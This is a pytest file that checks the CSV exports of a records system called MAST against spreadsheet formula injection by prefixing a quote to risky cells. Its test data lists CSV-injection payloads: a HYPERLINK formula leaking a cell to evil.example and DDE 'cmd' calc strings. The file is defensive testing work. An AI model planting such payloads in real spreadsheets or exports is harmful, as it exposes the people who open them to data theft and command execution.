"""Every CSV MAST writes for people to open is safe in a spreadsheet (issue 18, point 6).

A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula to Excel,
LibreOffice and Google Sheets (OWASP, "CSV injection"): a partner's ``=HYPERLINK(…)`` in a rejected
row, or a searched name like ``=cmd|' /C calc'!A0`` in an audit export, would run when an
administrator opens the file. Each writer is opened here with such cells, read back as a spreadsheet
reads it, and no cell may still start with a formula lead; the text itself is kept, after the guard.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from mast.feeds.definition import load_feed_definition
from mast.feeds.parse import parse_extract
from mast.schema import FORMULA_LEADS, spreadsheet_text

ATTACKS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def active_cells(text: str) -> list[str]:
    """The cells of a CSV a spreadsheet would read as formulas."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_LEADS)]


def all_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("value", ATTACKS)
def test_the_one_rule_guards_each_formula_lead_and_keeps_the_text(value: str) -> None:
    assert spreadsheet_text(value) == "'" + value
    assert not spreadsheet_text(value).startswith(FORMULA_LEADS)


def test_the_one_rule_leaves_ordinary_text_and_numbers_alone() -> None:
    assert spreadsheet_text("KHAN, Imran") == "KHAN, Imran"
    assert spreadsheet_text(-3) == "-3" and spreadsheet_text(None) == "" and spreadsheet_text(True) == "True"
    assert spreadsheet_text("O'Neil") == "O'Neil"


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def test_rejected_rows_csv_holds_no_active_formula() -> None:
    """reports/<file>.rejected.csv: the rows as sent, each formula-leading cell guarded."""
    header = ("Occurrence Nominal Ref,Occurrence Date,Nominal Name,DOB,Gender,Address,Postcode,"
              "OIC Team,Team Mailbox,Restricted,Record Status")
    rows = []
    for number, attack in enumerate(ATTACKS):
        # a date of birth that does not exist rejects the row; the attack sits in several cells
        rows.append(f'{_csv_cell(attack)}{number},02/05/2025,"KHAN, Imran",31/02/1990,M,{_csv_cell(attack)},'
                    f'ws1 3ps,{_csv_cell(attack)},ppu@wmp.example,N,ACTIVE')
    data = ("\r\n".join([header, *rows]) + "\r\n").encode("utf-8")
    parsed = parse_extract(data, load_feed_definition("wm-police"), ingest_id="i", file_name="f.csv",
                           ingest_date=dt.date(2025, 6, 30))
    assert parsed.receipt.rows_rejected == len(ATTACKS)
    text = parsed.rejected_csv().decode("utf-8-sig")
    assert active_cells(text) == []
    cells = all_cells(text)
    # the text is all there, behind the guard, so the administrator sees what was sent
    assert "'" + ATTACKS[0] in cells and "'" + ATTACKS[1] + "1" in cells
    assert sum(cell.startswith("'=HYPERLINK") for cell in cells) >= 2


def test_mast_audit_query_output_holds_no_active_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`mast audit query` prints CSV an auditor opens: a searched name like =cmd|… is guarded."""
    from mast.audit import AuditEvent, new_event_id
    from tests.unit.test_audit_export_queries import export
    from tools.cli import main

    moment = dt.datetime(2026, 11, 3, 2, 30, tzinfo=dt.UTC)
    events = [AuditEvent(event_id=new_event_id(), event_time=moment, action="search", user_sub="s",
                         username=attack, organisation="walsall-council", purpose=attack) for attack in ATTACKS]
    export(events, tmp_path)
    assert main(["audit", "query", "searches-outside-office-hours", "--audit-dir", str(tmp_path),
                 "--param", "from_date=2026-11-01", "--param", "to_date=2026-11-30"]) == 0
    text = capsys.readouterr().out
    assert len(all_cells(text)) > len(ATTACKS) and active_cells(text) == []
    assert "'" + ATTACKS[1] in all_cells(text)
